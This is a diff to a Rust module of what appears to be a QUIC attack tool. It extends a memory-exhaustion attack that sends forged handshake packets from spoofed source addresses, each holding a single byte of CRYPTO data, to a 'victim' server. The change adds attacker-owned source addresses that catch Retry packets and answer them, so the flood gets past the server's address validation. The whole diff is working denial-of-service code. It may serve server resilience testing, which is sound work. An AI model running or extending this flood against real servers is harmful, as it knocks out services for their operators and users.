@@ -1,13 +1,17 @@
 //! Little data in much memory, and as much data as there is credit for.
 
-use std::{thread, time::Duration};
+use std::{
+    net::UdpSocket,
+    thread,
+    time::{Duration, Instant},
+};
 
 use anyhow::Result;
 use rand::RngExt;
 
 use super::{
     Prepared, VICTIM,
-    forger::{Forger, any_source},
+    forger::{self, Forger, any_source, owned_source},
     frames,
     initial::Initials,
     peer::{Introduction, OVERHEAD, Peer},
@@ -16,24 +20,31 @@ use super::{
 };
 use crate::attack::catalogue::{Holding, Size};
 
-/// A byte of CRYPTO data in each datagram of so many handshakes, from addresses that are not the attacker's.
-pub fn before_tls(handshakes: usize, size: Size, bytes: usize) -> Result<Prepared> {
+/// A byte of CRYPTO data in each datagram of so many handshakes, from as many addresses.
+///
+/// Those are the attacker's where it proves them, and nobody's otherwise.
+pub fn before_tls(handshakes: usize, size: Size, proves: bool, bytes: usize) -> Result<Prepared> {
     let length = match size {
         Size::Small => DATAGRAM,
         Size::Large => LARGE_DATAGRAM,
     };
     let mut forger = Forger::new()?;
+    let ears = proves.then(forger::ears).transpose()?;
     let mut stalled = Vec::new();
-    for _ in 0..handshakes {
-        stalled.push((any_source(), Initials::begin(rand::rng().random())?));
+    for number in 0..handshakes {
+        let from = match ears {
+            Some(_) => owned_source(number as u16),
+            None => any_source(),
+        };
+        stalled.push((from, Initials::begin(&rand::rng().random::<[u8; 8]>())?));
     }
     let chunks = (bytes / length / handshakes).min(CHUNKS);
     Ok(Box::new(move |run| {
         run.attacked.begun = handshakes as u64;
-        for chunk in 0..chunks {
+        for chunk in 0..chunks as u64 {
+            let mut frame = Vec::new();
+            frames::crypto(&mut frame, chunk + 1, &[0]);
             for (from, initials) in &mut stalled {
-                let mut frame = Vec::new();
-                frames::crypto(&mut frame, chunk as u64 + 1, &[0]);
                 let datagram = if chunk == 0 {
                     // What begins a connection has to be small, and readable.
                     initials.packet(&frame, DATAGRAM)?
@@ -42,11 +53,35 @@ pub fn before_tls(handshakes: usize, size: Size, bytes: usize) -> Result<Prepare
                 };
                 forger.send(*from, &datagram)?;
                 run.sent(1, datagram.len());
+                if let Some(ears) = &ears
+                    && chunk == 0
+                    && let Some(proven) = prove(ears)?
+                {
+                    *initials = proven;
+                    let datagram = initials.packet(&frame, DATAGRAM)?;
+                    forger.send(*from, &datagram)?;
+                    run.sent(1, datagram.len());
+                }
             }
         }
         run.attacked.amplified = Some(forger.amplified(run.linger)?);
         Ok(Vec::new())
     }))
+}
+
+/// What follows the Retry packet that comes next, if there is one.
+fn prove(ears: &UdpSocket) -> Result<Option<Initials>> {
+    let mut buffer = vec![0; DATAGRAM];
+    let deadline = Instant::now() + RETRY;
+    while Instant::now() < deadline {
+        if let Ok(length) = ears.recv(&mut buffer)
+            && let Some(initials) = Initials::after(&buffer[..length])?
+        {
+            return Ok(Some(initials));
+        }
+        thread::sleep(RETRY / 20);
+    }
+    Ok(None)
 }
 
 /// Data of streams that nobody reads, on one connection.
@@ -209,6 +244,9 @@ const FRAME: usize = 1 + 2 + 4 + 2;
 
 /// What a datagram with one byte takes of the victim's memory, and more.
 const SINGLE: usize = 400;
+
+/// How long a Retry packet may take.
+const RETRY: Duration = Duration::from_millis(2);
 
 const LISTEN_EVERY: usize = 64;
 
